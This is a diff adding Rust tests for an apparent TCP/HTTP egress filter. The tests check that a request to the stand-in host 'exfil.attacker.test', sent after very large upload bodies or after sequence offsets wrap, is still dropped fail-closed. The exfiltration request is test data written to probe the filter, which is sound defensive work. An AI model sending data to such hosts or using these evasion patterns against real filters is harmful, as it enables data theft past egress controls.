@@ -1524,3 +1524,90 @@ fn a_retransmitted_later_request_must_carry_the_same_bytes() {
         Disposition::Drop(DropReason::FailClosed(Reason::AmbiguousOverlap))
     );
 }
+
+/// Metadata that says the checksum is left to offload: the big synthetic segments below are
+/// sent as a TSO-capable TUN delivers them, and patched in place rather than rebuilt.
+fn offload_meta() -> PacketMeta {
+    let mut meta = PacketMeta {
+        has_vnet: true,
+        ..PacketMeta::default()
+    };
+    meta.vnet[0] = 0x01; // VIRTIO_NET_HDR_F_NEEDS_CSUM
+    meta
+}
+
+/// Sends `len` bytes of request body from stream offset `off` in 64,000-byte segments (larger
+/// than the watch window), the server acknowledging each; returns the offset after them.
+fn send_body(h: &mut Harness, c: &Conn, mut off: u32, len: u64) -> u32 {
+    const SEG: usize = 64_000;
+    let mut pkt = c.data(0, &vec![b'x'; SEG]);
+    let mut left = len;
+    while left > 0 {
+        let n = SEG.min(left as usize);
+        if n < SEG {
+            pkt = c.data(0, &vec![b'x'; n]);
+        }
+        // Sequence number: IPv4 header (20 bytes), then TCP offset 4.
+        let seq = c.cisn.wrapping_add(1).wrapping_add(off);
+        pkt[24..28].copy_from_slice(&seq.to_be_bytes());
+        let d = h.send_meta(&pkt, offload_meta());
+        assert_eq!(d, Disposition::Forward, "body at {off}");
+        off = off.wrapping_add(n as u32);
+        left -= n as u64;
+        h.send(&c.server_data(0, off, b""));
+        h.wire.clear();
+    }
+    off
+}
+
+#[test]
+fn body_segments_larger_than_the_window_are_skipped_once_the_head_is_acknowledged() {
+    let mut h = Harness::new(POLICY_OPENAI);
+    let c = Conn::v4(55013).to_port(80);
+    handshake(&mut h, &c);
+    let body_len = 1_000_000u64;
+    let head = format!(
+        "POST /v1/files HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: {body_len}\r\n\r\n"
+    )
+    .into_bytes();
+    assert_eq!(h.send(&c.data(0, &head)), Disposition::Held);
+    h.send(&c.server_data(0, head.len() as u32, b""));
+    let off = send_body(&mut h, &c, head.len() as u32, body_len);
+    assert!(h.pipe.stats().held_bytes_now < 16 * 1024);
+    let d = h.send(&c.data(off, &get("exfil.attacker.test")));
+    assert_eq!(
+        d,
+        Disposition::Drop(DropReason::FailClosed(Reason::HostChanged))
+    );
+}
+
+#[test]
+fn the_watch_outlasts_the_range_of_sequence_offsets() {
+    // More than 2 GiB of request bodies on one connection (sequence offsets from the first byte
+    // would no longer fit 31 bits), then a request to a denied host.
+    let mut h = Harness::new(POLICY_OPENAI);
+    let c = Conn::v4(55014).to_port(80);
+    handshake(&mut h, &c);
+    let mut off = 0u32;
+    for _ in 0..3 {
+        let body_len = 900u64 << 20;
+        let head = format!(
+            "PUT /v1/blob HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: {body_len}\r\n\r\n"
+        )
+        .into_bytes();
+        let d = h.send(&c.data(off, &head));
+        assert!(
+            matches!(d, Disposition::Held | Disposition::Forward),
+            "{d:?}"
+        );
+        off = off.wrapping_add(head.len() as u32);
+        h.send(&c.server_data(0, off, b""));
+        off = send_body(&mut h, &c, off, body_len);
+    }
+    assert!(rsts(&h.wire).is_empty());
+    let d = h.send(&c.data(off, &get("exfil.attacker.test")));
+    assert_eq!(
+        d,
+        Disposition::Drop(DropReason::FailClosed(Reason::HostChanged))
+    );
+}
